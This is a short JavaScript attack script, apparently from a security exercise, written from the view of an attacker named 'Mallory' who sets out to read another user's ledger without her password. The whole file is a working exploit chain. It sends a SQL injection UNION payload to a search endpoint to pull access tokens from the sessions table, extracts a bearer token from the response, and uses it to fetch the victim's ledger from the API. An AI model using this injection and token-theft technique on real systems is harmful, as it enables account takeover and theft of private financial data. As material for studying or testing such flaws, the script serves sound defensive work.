// You are Mallory. This program runs on your machine.
// Print what is in Ana's ledger. You do not know her password.
import { send } from './http.js';

// The help pages and the sessions are in one database, and the search does not tell words from SQL.
const words = "' UNION SELECT id, access_token FROM sessions --";
const found = await send(`https://app.tally.example:8443/search?q=${encodeURIComponent(words)}`);
const [token] = /eyJ[\w.-]+/.exec(found.text) ?? [];

const answer = await send('https://api.tally.example:8443/ledger', {
  headers: { authorization: `Bearer ${token}` },
});
console.log(answer.status, answer.text);
